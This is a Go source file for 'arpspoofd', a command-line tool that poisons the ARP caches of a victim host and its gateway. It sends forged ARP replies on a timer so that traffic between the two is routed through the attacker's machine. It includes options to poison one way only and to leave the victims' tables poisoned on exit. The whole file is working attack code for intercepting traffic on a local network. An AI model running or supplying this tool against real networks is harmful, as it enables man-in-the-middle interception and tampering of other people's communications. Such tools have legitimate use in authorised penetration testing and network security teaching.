// Command arpspoofd poisons the ARP tables of a target host and its gateway,
// redirecting traffic between them through this machine.
package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/signal"
	"syscall"
	"time"

	log "github.com/sirupsen/logrus"
	"github.com/urfave/cli"

	"github.com/netseclab/arpspoof"
)

func main() {
	app := cli.NewApp()
	app.Name = "arpspoofd"
	app.Usage = "ARP cache poisoning for traffic interception on a local segment"
	app.Flags = []cli.Flag{
		cli.StringFlag{
			Name:  "interface, i",
			Usage: "network interface to use (default: pick by target subnet)",
		},
		cli.StringFlag{
			Name:  "target, t",
			Usage: "IPv4 address of the victim host",
		},
		cli.StringFlag{
			Name:  "gateway, g",
			Usage: "IPv4 address of the host to impersonate",
		},
		cli.DurationFlag{
			Name:  "interval",
			Value: 2 * time.Second,
			Usage: "delay between poison rounds",
		},
		cli.DurationFlag{
			Name:  "duration",
			Usage: "stop after this long (default: run until interrupted)",
		},
		cli.BoolFlag{
			Name:  "one-way",
			Usage: "poison only the target, not the gateway",
		},
		cli.BoolFlag{
			Name:  "no-restore",
			Usage: "do not repair the victims' ARP tables on exit",
		},
		cli.BoolFlag{
			Name:  "debug, d",
			Usage: "enable debug logging",
		},
	}
	app.Action = run

	if err := app.Run(os.Args); err != nil {
		log.Fatal(err)
	}
}

func run(c *cli.Context) error {
	if c.Bool("debug") {
		log.SetLevel(log.DebugLevel)
	}
	log.SetFormatter(&log.TextFormatter{
		FullTimestamp: true,
	})

	target := net.ParseIP(c.String("target"))
	if target == nil {
		return fmt.Errorf("invalid target IPv4 address: %q", c.String("target"))
	}
	gateway := net.ParseIP(c.String("gateway"))
	if gateway == nil {
		return fmt.Errorf("invalid gateway IPv4 address: %q", c.String("gateway"))
	}

	name := c.String("interface")
	if name == "" {
		ifi, err := arpspoof.InterfaceByAddr(target)
		if err != nil {
			return err
		}
		name = ifi.Name
		log.Debugf("using interface %s for target %s", name, target)
	}

	dev, err := arpspoof.OpenPcap(name)
	if err != nil {
		return err
	}
	defer dev.Close()

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()

	resolver := &arpspoof.Resolver{Notify: logEvent}

	gatewayMAC, err := resolver.Resolve(ctx, dev, gateway)
	if err != nil {
		return err
	}
	log.Infof("gateway %s is-at %s", gateway, gatewayMAC)

	targetMAC, err := resolver.Resolve(ctx, dev, target)
	if err != nil {
		return err
	}
	log.Infof("target %s is-at %s", target, targetMAC)

	spoofer := &arpspoof.Spoofer{Notify: logEvent}
	poison := func() {
		if err := spoofer.Spoof(dev, target, targetMAC, gateway, gatewayMAC); err != nil {
			log.Errorf("poisoning %s: %v", target, err)
		}
		if !c.Bool("one-way") {
			// Second call with the roles swapped deceives the gateway too.
			if err := spoofer.Spoof(dev, gateway, gatewayMAC, target, targetMAC); err != nil {
				log.Errorf("poisoning %s: %v", gateway, err)
			}
		}
	}

	interval := c.Duration("interval")
	ticker := time.NewTicker(interval)
	defer ticker.Stop()

	var expired <-chan time.Time
	if d := c.Duration("duration"); d > 0 {
		expired = time.After(d)
	}

	log.Infof("poisoning %s and %s every %s", target, gateway, interval)
	poison()

loop:
	for {
		select {
		case <-ticker.C:
			poison()
		case <-expired:
			break loop
		case <-ctx.Done():
			break loop
		}
	}

	if !c.Bool("no-restore") {
		log.Info("restoring true address bindings")
		if err := spoofer.Restore(dev, target, targetMAC, gateway, gatewayMAC); err != nil {
			log.Errorf("restore: %v", err)
		}
	}

	return nil
}

// logEvent renders library events; the cores themselves never log.
func logEvent(e arpspoof.Event) {
	switch e.Type {
	case arpspoof.EventProbeSent:
		log.Debugf("probe: who-has %s?", e.IP)
	case arpspoof.EventReplyMatched:
		log.Debugf("reply: %s is-at %s", e.IP, e.HardwareAddr)
	case arpspoof.EventFrameForged:
		log.Debugf("forged: %s is-at %s", e.IP, e.HardwareAddr)
	case arpspoof.EventBindingRestored:
		log.Infof("restored: %s is-at %s", e.IP, e.HardwareAddr)
	}
}
